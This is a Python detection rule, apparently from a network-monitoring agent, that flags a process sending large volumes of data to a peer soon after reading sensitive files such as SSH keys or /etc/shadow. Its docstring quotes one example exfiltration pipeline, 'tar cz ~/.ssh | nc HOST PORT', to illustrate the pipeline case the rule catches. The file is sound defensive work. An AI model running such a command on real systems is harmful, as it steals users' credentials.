"""exfiltration: a process read a sensitive file, then sent a lot of data to a peer.

Evidence, all from the agent's own inputs (docs/detections-exfiltration.md):

* sensitive file opens (FILE_OPEN process events the kernel already filtered by path,
  process.sensitive_prefixes / sensitive_basenames; completed flows also carry them as
  `files`), kept per process; a read by a process's child, parent or sibling (a pipeline:
  ``tar cz ~/.ssh | nc HOST PORT``) counts too when recent (related_window_s), scored lower;
* bytes sent afterwards, per (process, peer): the growth of each connection's payload
  counter, from live progress snapshots of open connections (cumulative counters; each
  carries the previous snapshot's, the delta is their difference) and from completed flows,
  summed over the connections to one peer (a peer is its DNS name when known, else its
  address). Bytes count when sent within window_s of the read, or on a connection that
  began within it.

It fires when the bytes reach min_bytes: while the upload is still open, at the first
progress snapshot past the threshold (so within kernel.stats_interval_s plus one tick), or
when the connection ends. The score rises when the peer is new for that binary (not seen
since the agent started) and when it was reached by IP without a DNS lookup.

Programs reading their own credentials are not evidence (trusted_readers: ssh and sshd
with keys, sudo with /etc/shadow, git with .git-credentials, aws with ~/.aws, ...): their
opens are dropped and counted. Loopback peers are left out unless include_loopback.

On Zeek logs the rule never fires (no file access is known): volume_anomaly covers large
uploads there. On recordings it works like live (FILE_OPEN and volume events are recorded).
"""

from __future__ import annotations

import fnmatch
import math
import os
from collections import deque
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any

from otelpeers.detect.engine import Finding, Rule, RuleContext
from otelpeers.detect.model import Actor, EvidenceKind, EvidenceRef, Peer
from otelpeers.detect.rules import meta
from otelpeers.detect.settings import ExfiltrationRule, RuleBase, parse_trusted_readers
from otelpeers.dns.lookups import DnsLookup
from otelpeers.events import Kind, ProcessEvent
from otelpeers.flows import FlowRecord

NS = 1_000_000_000
COMM_LEN = 15
MAX_ADDRESSES_PER_LOOKUP = 16
MAX_FLOWS_PER_UPLOAD = 16  # distinct connection ids remembered per (process, peer)
SCORE_SELF, SCORE_RELATED = 0.6, 0.45  # the sender read the file itself / a relative did
BONUS_NEW_PEER, BONUS_DIRECT_IP, BONUS_VOLUME = 0.2, 0.15, 0.05
_RELATION_RANK = {"self": 0, "child": 1, "parent": 2, "sibling": 3}


@dataclass(frozen=True, slots=True)
class _Read:
    time_ns: int
    path: str
    reader_pid: int
    reader: str
    relation: str  # self | child (as kept under a process)


@dataclass(slots=True)
class _Upload:
    """Bytes one process sent to one peer since a sensitive read."""

    first_ns: int
    last_ns: int
    bytes: int = 0
    flows: set[str] = field(default_factory=set)
    new_peer: bool = False
    fired: bool = False


class _Trusted:
    """trusted_readers, compiled: executable -> path patterns."""

    def __init__(self, entries: tuple[str, ...]) -> None:
        self.exact: dict[str, list[str]] = {}
        self.globs: list[tuple[str, tuple[str, ...]]] = []
        for exes, pats in parse_trusted_readers(entries, "trusted_readers"):
            for e in exes:
                if any(c in e for c in "*?["):
                    self.globs.append((e, pats))
                else:
                    self.exact.setdefault(e, []).extend(pats)
                    self.exact.setdefault(e[:COMM_LEN], []).extend(pats)

    def __call__(self, names: tuple[str, ...], path: str) -> bool:
        pats: list[str] = []
        for n in names:
            pats.extend(self.exact.get(n, ()))
            pats.extend(p for g, ps in self.globs if fnmatch.fnmatchcase(n, g) for p in ps)
        if not pats:
            return False
        full = path if path.startswith("/") else "/" + path
        base = full.rsplit("/", 1)[-1]
        return any(p == "*" or (p in full if "/" in p else p == base) for p in pats)


def _loopback(addr: str) -> bool:
    """127.0.0.0/8 and ::1 (the agent shows IPv4-mapped addresses as IPv4)."""
    return addr.startswith("127.") or addr == "::1"


class Exfiltration(Rule):
    meta = meta.EXFILTRATION
    settings_type = ExfiltrationRule
    takes_flows = True
    takes_progress = True
    takes_dns = True
    takes_process = True

    def __init__(self, settings: RuleBase, ctx: RuleContext) -> None:
        super().__init__(settings, ctx)
        s: ExfiltrationRule = settings  # type: ignore[assignment]
        self.s = s
        self._window = int(s.window_s * NS)
        self._related = int(s.related_window_s * NS)
        self._trusted = _Trusted(s.trusted_readers)
        self._reads = ctx.bounded("exfiltration.reads", s.max_processes)  # pid -> deque
        self._parent = ctx.bounded("exfiltration.parents", max(4 * s.max_processes, 65_536))
        self._uploads = ctx.bounded("exfiltration.uploads", ctx.config.max_actors)
        # (actor, peer) pairs seen -> the id of the flow that showed the pair first while that
        # flow is open (its later snapshots are still to a new peer), else None
        self._known = ctx.bounded("exfiltration.known_peers", s.max_known_peers)
        self._names = ctx.bounded("exfiltration.names", 65_536)  # address -> DNS name
        self.stats = {"sensitive_reads": 0, "trusted_reads": 0, "write_opens": 0,
                      "uploads_followed": 0}

    # ---- inputs ------------------------------------------------------------------------
    def on_process(self, actor: Actor, ev: ProcessEvent) -> Iterable[Finding]:
        if ev.kind == Kind.FORK:
            child = ev.child_pid
            if child:
                self._reads.pop(child, None)  # a new process under a pid seen before
                self._parent.put(child, ev.ppid or ev.tgid)
        elif ev.kind == Kind.FILE_OPEN and ev.sensitive:
            if ev.open_flags & os.O_ACCMODE == os.O_WRONLY:
                self.stats["write_opens"] += 1  # writing a secret is not reading it
                return ()
            reader = actor.executable or ev.comm
            if self._trusted((reader, ev.comm), ev.path):
                self.stats["trusted_reads"] += 1
                return ()
            self.stats["sensitive_reads"] += 1
            r = _Read(ev.time_ns, ev.path, ev.tgid, reader, "self")
            self._remember(ev.tgid, r)
            parent = self._parent.get(ev.tgid)
            if parent and self._related:
                self._remember(parent, _Read(r.time_ns, r.path, r.reader_pid, reader, "child"))
        return ()

    def on_dns(self, actor: Actor, lookup: DnsLookup) -> Iterable[Finding]:
        t = lookup.txn
        if t.question_name:
            for addr in t.addresses[:MAX_ADDRESSES_PER_LOOKUP]:
                self._names.put(addr, t.question_name.rstrip("."))
        return ()

    def on_progress(self, actor: Actor, flow: FlowRecord) -> Iterable[Finding]:
        return self._sent(actor, flow, complete=False)

    def on_flow(self, actor: Actor, flow: FlowRecord) -> Iterable[Finding]:
        return self._sent(actor, flow, complete=True)

    def counters(self) -> Mapping[str, int]:
        return self.stats

    # ---- the decision --------------------------------------------------------------------
    def _remember(self, pid: int, r: _Read) -> None:
        q = self._reads.get(pid)
        if q is None:
            q = deque(maxlen=self.s.max_files_per_process)
            self._reads.put(pid, q)
        q.append(r)

    def _peer_name(self, f: FlowRecord) -> str:
        if f.dns is not None and f.dns.question_name:
            return f.dns.question_name.rstrip(".")
        return self._names.get(f.peer_addr) or ""

    def _sent(self, actor: Actor, f: FlowRecord, complete: bool) -> list[Finding]:
        fid = f.flow_id
        cur = f.counters.payload_out
        # the flow's previous snapshot (None: this is the first record of it seen)
        prev = f.reported
        o = f.owner
        if o is None or f.summary or not f.peer_addr:
            return []  # no process (Zeek), or many lost connections in one record
        name = self._peer_name(f)
        peer_key = name or f.peer_addr
        new_peer = self._new_peer((actor.key, peer_key), fid, prev is None, complete)
        pid = o.tgid
        parent = self._parent.get(pid) if self._related else None
        if not (pid in self._reads or (parent and parent in self._reads) or f.files):
            return []  # the common case: nobody around this process read a secret
        t = f.end_ns
        reads = self._eligible(pid, parent, f, t)
        if not reads or (not self.s.include_loopback and _loopback(f.peer_addr)):
            return []
        if prev is not None:
            delta = cur - prev.payload_out
        elif f.start_ns >= min(r.time_ns for r, _ in reads):
            delta = cur  # the whole connection came after the read
        else:
            delta = 0  # first seen now, begun before the read: only later bytes count
        if delta <= 0:
            return []
        key = (pid, peer_key)
        up = self._uploads.get(key)
        if up is None or t - up.last_ns > self._window:
            up = _Upload(first_ns=t, last_ns=t, new_peer=new_peer)
            self._uploads.put(key, up)
            self.stats["uploads_followed"] += 1
        up.bytes += delta
        up.last_ns = max(up.last_ns, t)
        if len(up.flows) < MAX_FLOWS_PER_UPLOAD:
            up.flows.add(fid)
        if up.fired or up.bytes < self.s.min_bytes:
            return []
        up.fired = True
        return [self._finding(actor, f, up, reads, name, t)]

    def _new_peer(self, pair: tuple[str, str], fid: str, first: bool, complete: bool) -> bool:
        """Whether the actor had never sent to this peer before this flow: true for the flow
        that showed the pair first, for as long as that flow lasts."""
        known = self._known
        if first:
            if pair in known:
                return False
            # insertion order: the oldest learned pair is forgotten first
            known.put(pair, None if complete else fid)
            return True
        if known.get(pair) != fid:
            return False
        if complete:
            known[pair] = None  # keeps its place; the flow's id is not kept past its end
        return True

    def _eligible(self, pid: int, parent: int | None, f: FlowRecord, t: int
                  ) -> list[tuple[_Read, str]]:
        """Reads that may explain bytes sent at t on flow f: (read, relation to pid)."""
        out: list[tuple[_Read, str]] = []
        window, related = self._window, self._related

        def fits(r: _Read, w: int) -> bool:
            return r.time_ns <= t and (t - r.time_ns <= w
                                       or r.time_ns <= f.start_ns <= r.time_ns + w)

        for r in self._reads.get(pid) or ():
            rel = r.relation
            if fits(r, window if rel == "self" else related):
                out.append((r, rel))
        for fa in f.files:  # opens the process stage attached to the completed flow
            if fa.flags & os.O_ACCMODE == os.O_WRONLY:
                continue
            r = _Read(fa.time_ns, fa.path, pid, f.owner.comm if f.owner else "?", "self")
            if not self._trusted((r.reader,), r.path) and fits(r, window):
                out.append((r, "self"))
        if related and parent:
            for r in self._reads.get(parent) or ():
                if r.reader_pid == pid:
                    continue  # our own read, kept under the parent too
                if fits(r, related):
                    out.append((r, "parent" if r.relation == "self" else "sibling"))
        return out

    def _finding(self, actor: Actor, f: FlowRecord, up: _Upload,
                 reads: list[tuple[_Read, str]], name: str, t: int) -> Finding:
        best, rel = min(reads, key=lambda x: (_RELATION_RANK[x[1]], -x[0].time_ns))
        # Completed flows carry the DNS stage's verdict; open ones only what this rule saw.
        direct_ip = (not f.dns.resolved) if f.dns is not None else (False if name else None)
        score = SCORE_SELF if rel == "self" else SCORE_RELATED
        score += BONUS_NEW_PEER if up.new_peer else 0.0
        score += BONUS_DIRECT_IP if direct_ip else 0.0
        score += BONUS_VOLUME * min(1.0, math.log2(max(1, up.bytes / self.s.min_bytes)) / 4)
        paths = tuple(dict.fromkeys(r.path for r, _ in reads))[:8]
        after_s = (t - best.time_ns) / NS
        pid = f.owner.tgid if f.owner else 0
        who = actor.executable or (f.owner.comm if f.owner else "?")
        by = "" if rel == "self" else f" (read by its {rel} {best.reader}, pid {best.reader_pid})"
        extra = [w for w, on in (("a peer new for this binary", up.new_peer),
                                 ("reached by IP without DNS", bool(direct_ip))) if on]
        target = name or f.peer_addr
        summary = (f"{who} (pid {pid}) sent {up.bytes} bytes to {target} over "
                   f"{len(up.flows)} connection(s) {after_s:.1f} s after reading "
                   f"{best.path}{by}" + (f"; {', '.join(extra)}" if extra else ""))
        evidence: dict[str, Any] = {
            "file_path": best.path, "file_read_by": best.reader,
            "file_read_by_pid": best.reader_pid, "file_relation": rel,
            "file_read_time_ns": best.time_ns, "seconds_after_read": round(after_s, 3),
            "files": paths, "bytes_sent": up.bytes, "min_bytes": self.s.min_bytes,
            "window_s": self.s.window_s, "connections": len(up.flows),
            "new_peer": up.new_peer,
            "dns": "unknown" if direct_ip is None else ("direct_ip" if direct_ip
                                                        else "resolved"),
        }
        return Finding(
            actor=actor, time_ns=t, score=min(1.0, score), summary=summary,
            peer=Peer(f.peer_addr, f.peer_port, name or None), evidence=evidence,
            evidence_span=EvidenceRef(EvidenceKind.FLOW, f.flow_id), target=target)
